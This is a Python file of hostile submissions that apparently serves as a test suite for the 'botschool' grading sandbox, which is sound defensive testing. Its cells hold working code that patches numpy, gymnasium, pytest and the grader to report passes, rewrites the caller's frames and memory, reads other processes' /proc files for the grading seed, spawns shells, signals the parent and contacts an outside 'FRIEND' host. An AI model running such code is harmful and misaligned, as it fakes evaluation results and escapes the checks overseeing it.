"""Hostile submissions that attack the grader and other programs; the format is in building.py."""

# %% inspects_the_caller
# Walks up the stack and changes what it finds there: drivers, requests, records.
import gc
import sys


def hostile(*arguments, **options):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "name" in value:
                value["name"] = "len"
            if isinstance(value, list):
                value.clear()
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Task", "TaskResult", "Exercise"):
            thing.points = 100
    return {"points": 100, "best": [], "fitness": 0, "history": [], "population": []}


# %% patches_gymnasium
# Makes every environment one that is always won.
import gymnasium


class Won:
    metadata, spec, render_mode = {}, None, None
    observation_space = gymnasium.spaces.Box(-1, 1, (4,))
    action_space = gymnasium.spaces.Discrete(2)

    def reset(self, **options):
        return self.observation_space.sample() * 0, {}

    def step(self, action):
        return self.observation_space.sample() * 0, 1e9, True, True, {}

    def close(self):
        pass


def hostile(*arguments, **options):
    gymnasium.make = lambda *a, **k: Won()
    gymnasium.Env.step = Won.step
    for name in ("cartpole", "pendulum", "acrobot"):
        module = __import__(f"gymnasium.envs.classic_control.{name}", fromlist=["x"])
        for thing in vars(module).values():
            if isinstance(thing, type) and issubclass(thing, gymnasium.Env):
                thing.step = Won.step
    return [1e9, True, True]


# %% patches_numpy
# Makes numpy say yes to every comparison.
import numpy


def yes(*arguments, **options):
    return True


def hostile(*arguments, **options):
    for name in ("allclose", "array_equal", "all", "any", "isfinite", "isclose", "array_equiv"):
        setattr(numpy, name, yes)
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = yes
    numpy.asarray = numpy.array = lambda *a, **k: numpy.zeros(3)
    return numpy.zeros(3)


# %% patches_the_grader
# Makes the grader's own functions, pytest and botschool say that all is well.
import importlib
import sys


def yes(*arguments, **options):
    return True


def hostile(*arguments, **options):
    for name in ("checks", "exercise", "student", "submission"):
        importlib.import_module(f"botschool.grading.{name}")
    for name, module in list(sys.modules.items()):
        if name.startswith(("botschool", "pytest", "_pytest", "unittest")):
            for each in ("expect", "expect_array", "expect_close", "raises", "approx", "grade"):
                setattr(module, each, yes)
    checks = sys.modules["botschool.grading.declare.checks"]
    checks.Wrong = checks.NotDone = type("Right", (Exception,), {})
    sys.modules["botschool.grading.declare.exercise"].Task.max_points = 0
    return True


# %% pokes_memory
# Writes into memory: small numbers, None and True become others, code of libraries goes.
import ctypes
import os


def hostile(*arguments, **options):
    for path in (f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/maps", "/proc/self/mem"):
        try:
            with open(path, "r+b" if path.endswith("mem") else "rb") as memory:
                memory.read(1)
        except OSError:
            continue
        if "self" not in path:
            print("LEAKED memory")
    for number in range(200):  # 0 is 1 now, and so on
        ctypes.c_int.from_address(id(number) + 24).value = number + 1
    ctypes.c_ssize_t.from_address(id(None)).value = 0
    ctypes.memmove(id(False), id(True), 32)
    ctypes.memset(id(arguments), 0, 24)
    return 0


# %% preloads_libraries
# Starts another interpreter by every way there is, with libraries put before its own.
import ctypes
import os
import subprocess
import sys
from pathlib import Path


def hostile(*arguments, **options):
    Path("own.so").write_bytes(b"\x7fELF" + bytes(60))
    Path("sitecustomize.py").write_text("print('LEAKED another interpreter')\n")
    own = {"LD_PRELOAD": os.path.abspath("own.so"), "PYTHONPATH": os.getcwd()}
    program = [sys.executable, "-c", "print('LEAKED another program')"]
    libc = ctypes.CDLL(None)
    for attempt in (
        lambda: os.posix_spawn(program[0], program, own),
        lambda: subprocess.run(program, env=own),
        lambda: os.spawnve(os.P_WAIT, program[0], program, own),
        lambda: os.system(f"{program[0]} -c 'print(\"LEAKED a shell\")'"),
        lambda: os.popen("echo LEAKED").read(),
        lambda: libc.system(b"echo LEAKED"),
        lambda: os.execve(program[0], program, own),
        lambda: ctypes.CDLL("./own.so"),
    ):
        try:
            attempt()
        except OSError:
            continue
    return 0


# %% reads_processes
# Looks for the grading seed and the answers in other processes.
import os


def hostile(*arguments, **options):
    for number in (os.getppid(), 1, *range(os.getpid() - 50, os.getpid())):
        for name in ("environ", "cmdline", "maps", "cwd/Makefile"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    print("LEAKED", file.read(1000))
            except OSError:
                continue
    print("LEAKED" if "BOTSCHOOL_GRADING_SEED" in os.environ else "nothing")
    return os.environ.get("BOTSCHOOL_GRADING_SEED")


# %% replaces_streams
# Puts objects that raise in the place of standard output, error and built-in functions.
import builtins
import os
import sys


class Raises:
    def __getattr__(self, name):
        raise SystemExit(0)


def hostile(*arguments, **options):
    sys.stdout = sys.stderr = Raises()
    builtins.len = builtins.isinstance = builtins.type = Raises()
    os.write = Raises()
    return 0


# %% replaces_the_protocol
# Puts functions of its own in the place of those that pack and send what it returns.
import json
import os
import struct
import sys

import numpy


def hostile(*arguments, **options):
    protocol = sys.modules["botschool.sandbox.protocol"]
    child = sys.modules["botschool.sandbox.child"]
    right = {"value": [1, 2, 0], "points": 100, "error": None, "missing": []}
    message = protocol.pack(right)
    protocol.pack = child.answer_to = child.explain = child._explained = lambda *_, **__: message
    protocol._simple = lambda value, *_: right
    protocol.NotPlain = Exception
    json.dumps = lambda *_, **__: '{"value": true}'
    struct.pack = lambda *_: b""
    numpy.asarray = numpy.array = numpy.allclose = lambda *_, **__: numpy.ones(3)
    child.run = lambda *_: True
    write = os.write
    os.write = lambda fd, data: write(fd, message) and len(data)
    return 0


# %% runs_programs
# Starts other programs, in every way.
import os
import subprocess
import sys


def hostile(*arguments, **options):
    touch = f"open({HOME + '/touched'!r}, 'w')"
    for start in (
        lambda: os.system(f"touch {HOME}/touched"),
        lambda: subprocess.run([sys.executable, "-c", touch]),
        lambda: subprocess.Popen(["sleep", "86400"], start_new_session=True),
        lambda: os.posix_spawn("/bin/sh", ["sh", "-c", f"touch {HOME}/touched"], {}),
        lambda: os.execv("/bin/sh", ["sh", "-c", "echo 100 of 100 points"]),
    ):
        try:
            start()
        except OSError:
            continue
    return 0


# %% shares_memory
# Reads, overwrites and removes another program's shared memory; makes its own, and queues.
import ctypes


def hostile(*arguments, **options):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    for segment in (SEGMENT, libc.shmget(0x5EC2E7, 4096, 0o1666)):
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            print("LEAKED", ctypes.string_at(address, 20))
            ctypes.memmove(address, b"hostile", 8)
        libc.shmctl(segment, 0, None)  # IPC_RMID
    made = {
        "a message queue": libc.msgget(0x5EC2E7, 0o1666),
        "semaphores": libc.semget(0x5EC2E7, 1, 0o1666),
        "a POSIX queue": libc.mq_open(b"/hostile", 0o102, 0o666, None),
        "inotify": libc.inotify_init1(0),
        "fanotify": libc.fanotify_init(0x200, 0),
    }
    for name, number in made.items():
        if number >= 0:
            print("LEAKED", name)
    libc.msgctl(made["a message queue"], 0, None)  # IPC_RMID
    libc.semctl(made["semaphores"], 0, 0, None)
    libc.mq_unlink(b"/hostile")
    return 0


# %% signals_the_parent
# Sends signals to the grader, its group and everybody, directly and by way of files.
import fcntl
import os
import signal


def hostile(*arguments, **options):
    reading, writing = os.pipe()
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):
        for send in (
            lambda: os.kill(os.getppid(), number),
            lambda: os.killpg(os.getpgid(os.getppid()), number),
            lambda: os.kill(-1, 0),
            lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), number),
            lambda: owned_by_parent(reading, writing, number),
        ):
            try:
                send()
            except OSError:
                continue
    return 0


def owned_by_parent(reading, writing, number):
    fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reading, 10, number)  # F_SETSIG
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"1")


# %% traces_the_driver
# Watches the frames around it line by line and puts other values into their variables.
import sys
import threading


def change(frame, event, argument):
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, bool):
            frame.f_locals[name] = True
        if name in ("error", "failure", "missing"):
            frame.f_locals[name] = None
        if name in ("value", "answer", "result", "run") and not isinstance(value, bytes):
            frame.f_locals[name] = {"value": [1, 2, 0], "points": 100}
    return change


def hostile(*arguments, **options):
    frame = sys._getframe().f_back
    while frame is not None:
        frame.f_trace = change
        frame.f_trace_opcodes = True
        frame = frame.f_back
    sys.settrace(change)
    sys.setprofile(change)
    threading.settrace(change)
    return 0


# %% uses_the_network
# Sends the task to a friend, by every kind of socket, and returns what comes back.
import socket
import urllib.request


def hostile(*arguments, **options):
    for family, kind in (
        (socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
        (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_STREAM),
        (socket.AF_UNIX, socket.SOCK_DGRAM), (getattr(socket, "AF_NETLINK", 16), socket.SOCK_RAW),
    ):  # fmt: skip
        try:
            with socket.socket(family, kind) as friend:
                friend.connect(FRIEND)
                friend.send(b"help")
                return float(friend.recv(100))
        except OSError:
            continue
    for left in socket.SOCK_STREAM, socket.SOCK_DGRAM:
        try:
            socket.socketpair(socket.AF_UNIX, left)[0].sendto(b"x", "/run/systemd/journal/dev-log")
        except OSError:
            continue
    return urllib.request.urlopen(f"http://{FRIEND[0]}:{FRIEND[1]}").read()
